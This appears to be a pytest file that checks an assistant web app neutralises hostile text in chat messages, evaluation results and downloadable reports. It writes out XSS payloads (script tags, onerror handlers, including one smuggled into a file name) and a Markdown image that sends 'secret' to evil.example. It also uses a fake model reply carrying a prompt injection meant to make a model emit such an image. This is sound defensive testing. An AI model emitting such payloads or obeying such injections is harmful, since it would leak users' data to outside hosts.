"""Output safety: nothing a document, Q/A file or model answer holds runs or fetches.

Every view that shows such text is fed the strings in `render.HOSTILE` (script tags,
event handlers, Markdown images to another host, links, a prompt injection asking for
an exfiltrating image) and its output is rendered by a real Markdown/HTML parser: no
element that could run, load or navigate may come out, while the text stays readable.
"""

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path

import pytest

from assistant.core.settings import load_settings
from assistant.web import behaviour, chat
from assistant.web import items as items_view
from assistant.web.safe import inert
from assistant.web.session import SessionState
from knowledge.qa import Answer, Citation
from tests.fakes.web import FakeServices
from tests.hostile.render import (
    HOSTILE,
    active_elements,
    assert_inert_markdown,
    elements,
    markdown_to_html,
)

INJECTION = HOSTILE[-1]
EXFIL = "![x](http://evil.example/?q=secret)"


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_cannot_run_or_fetch(text: str) -> None:
    assert_inert_markdown(inert(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_still_reads_as_typed(text: str) -> None:
    """Neutralised, not deleted: the user still sees what the model or document said."""
    shown = markdown_to_html(inert(text))
    visible = "".join(_text_of(shown).split())
    for word in ("evil.example", "alert(1)", "secret", "SESSION_TOKEN"):
        if word in text:
            assert word in visible


def _text_of(html_text: str) -> str:
    from html.parser import HTMLParser

    parts: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = parts.append  # type: ignore[method-assign]
    parser.feed(html_text)
    return "".join(parts)


def test_inert_keeps_our_own_emphasis() -> None:
    """Applying it to whole chat messages must not spoil the assistant's own Markdown."""
    shown = markdown_to_html(inert("**Got it** (use case: Document Q&A).\n- _one_"))
    assert [tag for tag, _ in elements(shown)] == ["p", "strong", "ul", "li", "em"]
    assert "Q&amp;A" in shown


# -- chat ------------------------------------------------------------------------------


class HostileModelServices(FakeServices):
    """The guidance answer is a hostile model reply, streamed token by token."""

    reply = f"LoRA trains small adapters. {INJECTION} <script>alert(1)</script> {EXFIL}"

    def ask(self, question, on_text=None):
        if on_text is not None:
            for end in range(10, len(self.reply) + 10, 10):
                on_text(self.reply[:end])
        return Answer(self.reply, [Citation("knowledge/guidance/lora.md", "What LoRA is")])


@pytest.fixture
def hostile_services(tmp_path):
    return HostileModelServices(load_settings(env={}, data_dir=str(tmp_path / "data")))


def test_chat_streams_and_shows_model_answers_inert(hostile_services) -> None:
    session = SessionState()
    list(chat.chat_turn(hostile_services, session, {"text": "hello"}, [], "s"))
    steps = list(chat.chat_turn(hostile_services, session, {"text": "What is LoRA?"}, [], "s"))
    shown = [history[-1]["content"] for history, _, _ in steps]
    assert any("LoRA trains small adapters" in s for s in shown[1:-1]), "no streamed partials"
    for message in shown:
        assert_inert_markdown(message)
    assert "evil.example" in shown[-1] and "Sources:" in shown[-1]


def test_chat_echoes_the_users_own_message_inert(hostile_services) -> None:
    text = " ".join(HOSTILE)
    steps = list(chat.chat_turn(hostile_services, SessionState(), {"text": text}, [], "s"))
    history = steps[-1][0]
    assert history[0]["role"] == "user"
    for message in history:
        assert_inert_markdown(message["content"])


def test_profile_error_quoting_the_value_is_inert() -> None:
    message = chat.edit_profile(SessionState(), json.dumps({"use_case": EXFIL}))
    assert message.startswith("Not saved:") and "use_case" in message
    assert_inert_markdown(message)


def test_upload_reply_in_chat_is_inert(hostile_services, tmp_path) -> None:
    bad = tmp_path / "<img src=x onerror=alert(1)>.txt"
    bad.write_bytes(b"")
    steps = list(chat.chat_turn(hostile_services, SessionState(), {"files": [str(bad)]}, [], "s"))
    for message in steps[-1][0]:
        assert_inert_markdown(message["content"])
    assert "empty file" in steps[-1][0][-1]["content"]


# -- trial results -----------------------------------------------------------------------


def _items() -> dict[str, list[dict]]:
    row = {
        "question": f"What is the refund window? {HOSTILE[0]}",
        "reference": f"14 days {EXFIL}",
        "scores": {"contains": 0.0},
        "latency_s": 0.4,
        "retrieved": [{"source": "<img src=x onerror=alert(2)>.md", "page": 2}],
    }
    return {
        "prompt": [row | {"prediction": f"{INJECTION}\n# heading\n\n{HOSTILE[1]}"}],
        "rag": [row | {"prediction": f"[proof](http://evil.example/p) {HOSTILE[4]}"}],
    }


def test_question_detail_is_inert() -> None:
    items = _items()
    detail = items_view.question_detail(items, items_view.question_labels(items)[0])
    assert_inert_markdown(detail)
    rendered = markdown_to_html(detail)
    quoted = rendered.split("<blockquote>")[1].split("</blockquote>")[0]
    assert "heading" in quoted  # a line of the answer cannot step out of its quote
    assert "SESSION_TOKEN" in rendered and "refund window" in rendered


def test_behaviour_preview_is_inert(tmp_path) -> None:
    services = FakeServices(load_settings(env={}, data_dir=str(tmp_path / "data")))
    path = tmp_path / "hostile.jsonl"
    rows = [{"input": f"ticket {i}: {HOSTILE[i % len(HOSTILE)]}", "output": EXFIL}
            for i in range(40)]  # fmt: skip
    rows.append({"prompt": INJECTION})  # skipped, and its reason names what it found
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n<script>alert(1)</script>\n")
    text = behaviour.preview_examples(services, SessionState(), str(path), INJECTION, "s")
    assert "40 usable examples" in text and "2 skipped" in text
    assert_inert_markdown(text)


def test_behaviour_summary_markdown_is_inert() -> None:
    summary = {
        "source": "<b>x</b>.jsonl", "format": "input/output", "examples": 40, "skipped": 2,
        "task": "classification", "task_reason": f"one label ({EXFIL})",
        "instruction": INJECTION, "skipped_reasons": list(HOSTILE[:3]), "notes": [HOSTILE[5]],
    }  # fmt: skip
    assert_inert_markdown(behaviour.summary_markdown(summary))


# -- the downloadable report -------------------------------------------------------------


@pytest.fixture(scope="module")
def report_data(tmp_path_factory):
    from assistant.advice.profile import Profile
    from assistant.report.data import build_report_data
    from eval.store import Store

    hostile_file = "<img src=x onerror=alert(2)>.md"
    with Store(tmp_path_factory.mktemp("db") / "advisor.duckdb") as store:
        run_id = store.start_run(
            workspace="ws", config={"trials": ["prompt", "rag"], "seed": 1}, settings={},
            models={"chat": "m", "embedder": "e"}, files=[{"name": hostile_file, "sha256": ""}],
            seed=1, app_version="0", n_train=4, n_heldout=2,
        )  # fmt: skip
        for trial, items in _items().items():
            rows = [it | {"idx": 0} for it in items]
            rows.append(rows[0] | {"idx": 1, "prediction": " ".join(HOSTILE)})
            summary = {"n": 2, "contains": 0.5, "latency_p50_s": 1.0}
            store.save_trial(run_id, trial, "finished", summary, rows)
        store.save_trial(run_id, "lora", "failed", {}, [], error=f"boom {HOSTILE[1]}")
        store.finish_run(run_id, "partial", EXFIL)
        return build_report_data(Profile(), store, run_id, now=datetime(2025, 1, 1))


def test_markdown_report_is_inert(report_data) -> None:
    from assistant.report.markup import render_markdown

    text = render_markdown(report_data)
    assert "evil.example" in text  # the answers are there, as text
    # Charts are data: images; bare URLs are left as text (a click, never a fetch).
    assert_inert_markdown(text, allow_data_images=True, bare_urls=True)


def test_html_report_is_inert(report_data) -> None:
    from assistant.report.markup import render_html

    page = render_html(report_data)
    body = page.split("<body>", 1)[1]
    assert "evil.example" in body
    assert active_elements(body, allow_data_images=True) == []
    assert "default-src 'none'" in page  # and the page may not fetch anything anyway


def test_report_files_hold_no_hostile_markup(tmp_path) -> None:
    """The report as written for download: the same escaping end to end."""
    from assistant.web.downloads import make_report

    services = FakeServices(load_settings(env={}, data_dir=str(tmp_path / "data")))
    session = SessionState(session_id="s")
    chat.edit_profile(session, json.dumps({"use_case": "document_qa"}))
    paths, _ = make_report(services, session)
    for path in map(Path, paths):
        if path.suffix == ".html":
            body = path.read_text().split("<body>", 1)[1]
            assert active_elements(body, allow_data_images=True) == []
        elif path.suffix == ".md":
            assert_inert_markdown(path.read_text(), allow_data_images=True, bare_urls=True)
